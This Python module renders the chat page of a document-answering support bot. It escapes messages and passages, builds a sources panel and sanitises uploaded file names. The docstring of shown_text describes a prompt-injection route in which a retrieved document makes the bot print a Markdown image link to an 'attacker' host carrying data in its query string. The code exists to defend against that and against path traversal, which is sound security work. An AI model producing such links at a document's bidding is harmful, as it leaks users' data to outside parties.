"""What the chat page shows, as plain functions (tested without a browser or a server).

Everything that came from a document or a user is HTML-escaped before it reaches the page:
passages and messages are shown as text, never run.
"""

from __future__ import annotations

import html
import re
import time
from pathlib import Path

from bot.errors import RequestError

_SAFE_NAME = re.compile(r"[^A-Za-z0-9._ -]+")


def text_of(content) -> str:
    """A chat message's text: Gradio sends a str over the API, a list of parts after the UI."""
    if isinstance(content, str):
        return content
    if isinstance(content, dict):
        return str(content.get("text") or content.get("value") or "")
    if isinstance(content, (list, tuple)):
        return " ".join(text_of(c) for c in content)
    return "" if content is None else str(content)


def history_messages(history: list | None) -> list[dict]:
    """Gradio's chat history as the chain's [{"role", "content": str}], as the people wrote it.

    The page shows messages escaped (shown_text); the chain must see "&" and "<", not "&amp;"."""
    out = []
    for m in history or []:
        if isinstance(m, dict) and m.get("role") in ("user", "assistant"):
            out.append({"role": m["role"], "content": html.unescape(text_of(m.get("content")))})
    return out


def error_text(err) -> str:
    """A SupportbotError as one short chat line: the problem, then what to do."""
    message = err.args[0] if err.args else str(err)
    hint = getattr(err, "hint", "")
    return shown_text(f"⚠️ {message}" + (f". {hint[0].upper()}{hint[1:]}." if hint else ""))


def shown_text(text: str) -> str:
    """A message, answer or passage as the page shows it: escaped, so markup shows as text.

    "[" becomes an entity too, so no Markdown link or image forms: a document could otherwise
    make the bot print `![](https://attacker/?q=...)`, which the browser would fetch unasked.
    html.unescape gives the original back."""
    return html.escape(text, quote=False).replace("[", "&#91;")


def _code(text: str) -> str:
    """Text for inside a `code span`: escaped, and with no backtick that could end the span early."""
    return html.escape(text.replace("`", "'"), quote=False)


def sources_markdown(answer: dict | None) -> str:
    """The sources panel for one answer (Answer.to_dict()): [n], file, section, score, passage."""
    if not answer:
        return "_Sources of the last answer appear here._"
    parts = []
    if answer.get("flagged"):
        values = ", ".join(f"`{_code(v)}`" for v in answer["flagged"])
        what = "replaced by a quote of the passage" if answer.get("kind") == "fallback" else "shown as written"
        parts.append(f"⚠️ **Not found in the cited passages:** {values} (the model's answer was {what}).")
    if answer.get("refused"):
        parts.append("ℹ️ Nothing in the knowledge base was relevant enough, so the bot did not guess.")
    if not answer.get("sources"):
        parts.append("_No passages were used for this reply._")
    for s in answer.get("sources", []):
        where = _code(s["source"]) + (f" › {_code(s['section'])}" if s.get("section") else "")
        mark = " · **cited**" if s.get("cited") else ""
        twins = ", ".join(f"`{_code(t)}`" for t in s.get("also_in", []))
        also = f" · also in {twins}" if twins else ""
        passage = shown_text(s.get("text", "")).strip().replace("\n", "\n> ")
        parts.append(f"**[{s['n']}]** `{where}` (score {s.get('score', 0):.2f}){mark}{also}\n> {passage}")
    return "\n\n".join(parts)


def kb_status_markdown(kb) -> str:
    """Documents, passages and the last sync of a bot.knowledge.KnowledgeBase."""
    view = kb.view()
    report = kb.last_report
    lines = [f"**{len(view.sources())} documents**, **{len(view)} passages** in the index"]
    if report is not None:
        when = time.strftime("%H:%M:%S", time.localtime(report.finished_at)) if report.finished_at else "?"
        lines.append(f"Last sync {when}: {html.escape(report.summary())}")
        for s in report.skipped[:5]:
            lines.append(f"- skipped `{html.escape(s['file'])}`: {html.escape(s['reason'])}")
    else:
        lines.append("Not synced in this session yet.")
    if kb.last_error:
        lines.append(f"⚠️ Last background sync failed (still answering from the previous index): "
                     f"{html.escape(kb.last_error)}")
    return "\n\n".join(lines)


def upload_name(name: str, extensions: list[str]) -> str:
    """A safe file name for an uploaded document, or RequestError saying why not.

    Only the last path component counts ("../../x.md" -> "x.md"); odd characters become "_";
    hidden names and types the knowledge base does not index are refused.
    """
    base = re.split(r"[\\/]", name or "")[-1].strip()
    base = "" if base.startswith(".") else _SAFE_NAME.sub("_", base).strip(" .")
    if not base:
        raise RequestError(f"{name!r} is not a usable file name", "rename the file and upload it again")
    if Path(base).suffix.lower() not in {e.lower() for e in extensions}:
        raise RequestError(f"{base}: this type is not indexed", f"upload one of: {', '.join(extensions)}")
    return base[:120]
